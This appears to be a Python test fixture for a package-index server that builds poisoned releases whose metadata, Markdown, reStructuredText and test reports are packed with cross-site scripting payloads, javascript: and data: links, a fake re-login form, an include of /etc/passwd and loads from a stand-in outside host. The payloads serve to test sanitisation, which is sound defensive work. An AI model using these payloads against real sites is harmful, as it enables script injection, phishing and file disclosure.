"""What somebody with the right to upload could try: scripts in every field, and links that are scripts.

If any of it runs, `window.RAN` is set, or a dialog opens, or another host is asked, all of which the tests see.
"""

from __future__ import annotations

from support.artifacts import Artifact, sdist_of, wheel_of

from .goods import metadata

NAME, VERSION = "mouse-trap", "6.6.6"
RAN = "ranByUploader"
RUN = f"window.{RAN}=1"
MARK = "<script>" + RUN + "</script>"
"""Shown as these characters wherever a text is shown."""
TEXT = f"""{MARK}"'><img src=x onerror={RUN}><svg/onload={RUN}>{{{{7*7}}}}${{7*7}}</title></textarea>&lt;script&gt;"""
"""One line that breaks out of text, of attributes in either quote, and of elements whose content is raw text."""
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://shop.example/%0a{RUN}",
    f"data:text/html,{MARK}",
    f"vbscript:{RUN}",
    f'http://shop.example/" onmouseover="{RUN}',
    f"//elsewhere.example/{MARK}",
    "http://user:secret@elsewhere.example/",
)

MARKDOWN = f"""\
# {MARK}

{TEXT}

<script>{RUN}</script><SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>
<img src=x onerror="{RUN}"><img src="//elsewhere.example/track.png"><img srcset="//elsewhere.example/set.png 2x">
<svg onload="{RUN}"><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></mtext></math>
<iframe srcdoc="<script>parent.{RAN}=1</script>"></iframe><iframe src="//elsewhere.example/"></iframe>
<object data="//elsewhere.example/x.swf"></object><embed src="//elsewhere.example/x.swf">
<form action="/_/login" method="post"><input name="user" autofocus onfocus="{RUN}"><button>Sign in again</button></form>
<style>body {{ display: none }} @import url(//elsewhere.example/x.css);</style><link rel="stylesheet" href="//elsewhere.example/x.css">
<base href="//elsewhere.example/"><meta http-equiv="refresh" content="0;url=//elsewhere.example/">
<a href="javascript:{RUN}">one</a> <a href="data:text/html,{MARK}">two</a> <a href="x" onclick="{RUN}" style="position:fixed;inset:0">three</a>
<div id="search" name="cookie" class="banner" style="position:fixed;inset:0;background:red">over everything</div>
<video poster="//elsewhere.example/p.png" src="//elsewhere.example/v.mp4" autoplay></video><audio src="//elsewhere.example/a.mp3"></audio>
<details ontoggle="{RUN}" open><summary>s</summary></details><body onload="{RUN}"><input type="image" src="//elsewhere.example/i.png">

[four](javascript:{RUN}) [five](<java\tscript:{RUN}>) [six](data:text/html;base64,PHNjcmlwdD4=) <javascript:{RUN}>
![seven](javascript:{RUN}) ![eight](//elsewhere.example/eight.png) ![nine](data:image/svg+xml,<svg/onload={RUN}>)
[ten]: javascript:{RUN} "{TEXT}"
[ten]

```"><script>{RUN}</script>
{MARK}
```

| {MARK} |
|---|
| <img src=x onerror={RUN}> |
"""

RST = f"""\
{MARK}
======

.. raw:: html

   <script>{RUN}</script>

.. include:: /etc/passwd

.. image:: javascript:{RUN}
   :target: javascript:{RUN}

.. figure:: //elsewhere.example/x.png

`one <javascript:{RUN}>`_ {TEXT}

.. _two: javascript:{RUN}

.. role:: raw-html(raw)
   :format: html

:raw-html:`<script>{RUN}</script>`
"""

HTML = f"<p>Not rendered: {MARK}</p>"


def artifacts() -> list[Artifact]:
    """A release with every field poisoned, and one for each kind of description."""
    fields = {
        "summary": TEXT,
        "author": TEXT,
        "author_email": f'"{TEXT}" <mouse@shop.example>, {MARK}@shop.example',
        "maintainer": TEXT,
        "maintainer_email": f"{MARK}@shop.example",
        "license": TEXT,
        "license_file": TEXT,
        "keywords": f"{MARK},{TEXT}",
        "classifier": (f"Topic :: {MARK}", f"{TEXT} :: {TEXT}"),
        "platform": TEXT,
        "home_page": LINKS[0],
        "download_url": LINKS[1],
        "project_url": tuple(f"{MARK} {number}, {link}" for number, link in enumerate(LINKS)),
        "requires_dist": (f"trap @ {LINKS[0]}", f"trap; extra == '{MARK}'", f"{MARK}>=1", f"cheese>={MARK}"),
        "requires_external": TEXT,
        "provides_extra": MARK,
        "provides_dist": TEXT,
        "obsoletes_dist": TEXT,
        "dynamic": TEXT,
        f"x_{RAN}": TEXT,
    }
    kinds = {
        VERSION: ("text/markdown", MARKDOWN),
        "6.6.5": ("text/x-rst", RST),
        "6.6.4": ("text/plain", TEXT),
        "6.6.3": ("text/html", HTML),
    }
    kinds["6.6.2"] = (f"{MARK}/html", MARKDOWN)
    wheels = [
        wheel_of(metadata(NAME, version, text, content_type, **fields), NAME, version) for version, (content_type, text) in kinds.items()
    ]
    return [*wheels, sdist_of(metadata(NAME, VERSION, MARKDOWN, **fields), NAME, VERSION)]


TEST_RESULT = {
    "reportversion": "1",
    "toxversion": TEXT,
    "host": TEXT,
    "platform": TEXT,
    "testenvs": {
        MARK: {
            "python": {"version": TEXT, "executable": TEXT},
            "setup": [{"command": [TEXT], "retcode": 0, "output": TEXT}],
            "test": [{"command": [TEXT], "retcode": 1, "output": TEXT}],
        }
    },
}
DOCUMENTATION = f"""<p>Documentation</p><script>
{RUN};
try {{ document.cookie = "{RAN}=1"; }} catch {{ }}
</script>"""
"""Its scripts may run, in a sandbox: a search of its own is fine, anything that reaches out of it is not."""
